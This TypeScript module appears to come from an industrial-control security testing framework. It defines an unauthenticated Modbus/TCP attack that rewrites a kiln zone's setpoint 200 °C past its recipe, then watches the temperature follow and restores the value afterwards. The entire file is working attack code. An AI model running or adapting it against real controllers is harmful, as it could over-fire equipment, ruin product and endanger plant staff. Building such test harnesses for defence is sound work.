/**
 * Modify parameter on Modbus/TCP: an operator setpoint of the station (a kiln's first zone
 * setpoint, else its first operator setpoint) written far from where it stands, as a float in
 * two holding registers. The line takes it as any operator's; the attack measures the
 * setpoint and the process value it drives (a kiln zone heating towards it) on the line.
 */
import { T } from '../techniques.ts';
import type { Attack } from '../types.ts';
import type { Point } from '../../../sim/protocols/modbus/map.ts';
import { before, now, restore, round, trail } from './common.ts';

/** how far above the recipe a kiln zone is driven [°C] */
const OVER = 200;
/** anything else: this share of its range above where it stands */
const SHARE = 0.2;

/** The setpoint to move and the process value it drives (null: none known). */
function aim(holding: readonly Point[]): { sp: Point; pv: string | null; recipe: string | null } | null {
  const sp1 = holding.find((p) => p.tag === 'sp1');
  if (sp1 !== undefined) return { sp: sp1, pv: 't1', recipe: 'recipe1' };
  const sp = holding.find((p) => p.write === 'operator' && p.type === 'float32');
  return sp === undefined ? null : { sp, pv: null, recipe: null };
}

export const modbusSetpoint: Attack = {
  id: 'modbus-setpoint',
  title: 'Modbus setpoint write: an operator setpoint moved through two holding registers, no credential',
  techniques: [T.modifyParameter],
  face: 'modbus',
  preconditions: ['network reach to the Modbus/TCP port', 'the PLC model\'s published register map (twinline modbus map)'],
  steps: [
    'find the station\'s unit by its device identification; read its holding registers',
    `write the setpoint (a kiln: zone 1 to ${OVER} °C above its recipe) with FC 16, float32 high word first`,
    'watch the setpoint and the process value on the line',
  ],
  expectedImpact: `the setpoint moves and the process follows it (a kiln zone heats ${OVER} °C past its recipe: over-fired, cracked ware)`,
  async run(ctx) {
    // the client loads on demand, so `attack list` answers at once
    const { locate, ModbusClient, readTags, reason } = await import('../clients/modbus.ts');
    const evidence: string[] = [];
    const was = await before(ctx);
    let status = 'not sent';
    let plan: { field: string; from: number; to: number; pv: string | null } | null = null;
    try {
      const c = await ModbusClient.connect(ctx.target);
      try {
        const found = await locate(c, ctx.station);
        const target = typeof found === 'string' ? null : aim(found.map.tables.holding);
        if (typeof found === 'string') status = found;
        else if (target === null) status = `unit ${found.device.unit} has no operator setpoint`;
        else {
          const values = (await readTags(c, found.device.unit, found.map)).holding;
          const from = values[target.sp.tag]!;
          const recipe = target.recipe === null ? undefined : values[target.recipe];
          // a value past the field's range is refused by the line (exception 03): the attack then reports blocked
          const to = round(recipe !== undefined ? Math.min(1800, recipe + OVER) : from + Math.max(1, Math.abs(from) * SHARE), 1);
          plan = { field: target.sp.tag, from, to, pv: target.pv };
          status = await c.writeFloat(found.device.unit, target.sp.address, to).then(() => 'ok', reason);
          evidence.push(`Modbus: write holding ${target.sp.address}–${target.sp.address + 1} (${target.sp.tag}) of unit ${found.device.unit} (${ctx.station}): ${from} → ${to} ${target.sp.unit} → ${status}`);
        }
      } finally {
        await c.close();
      }
    } catch (e) {
      status = reason(e);
    }
    if (plan === null) evidence.push(`Modbus: ${status}`);
    // the process follows the setpoint: watch it for the watch time
    if (status === 'ok' && ctx.observer !== null) await new Promise((r) => setTimeout(r, ctx.watchMs));
    const after = await now(ctx);
    await trail(ctx, evidence, status !== 'ok');
    const field = plan?.field ?? null;
    const moved = field !== null && was !== null && after !== null && was.tags[field] !== after.tags[field];
    const pv = plan?.pv ?? null;
    return {
      outcome: (after !== null ? moved : status === 'ok') ? 'succeeded' : 'blocked',
      evidence,
      impact: {
        write: status,
        setpoint: field === null ? null : { [field]: [was?.tags[field] ?? plan!.from, after?.tags[field] ?? (status === 'ok' ? plan!.to : plan!.from)] },
        processValue: pv === null || was === null || after === null ? null : { [pv]: [round(was.tags[pv]!), round(after.tags[pv]!)] },
      },
    };
  },
  cleanup: restore,
};
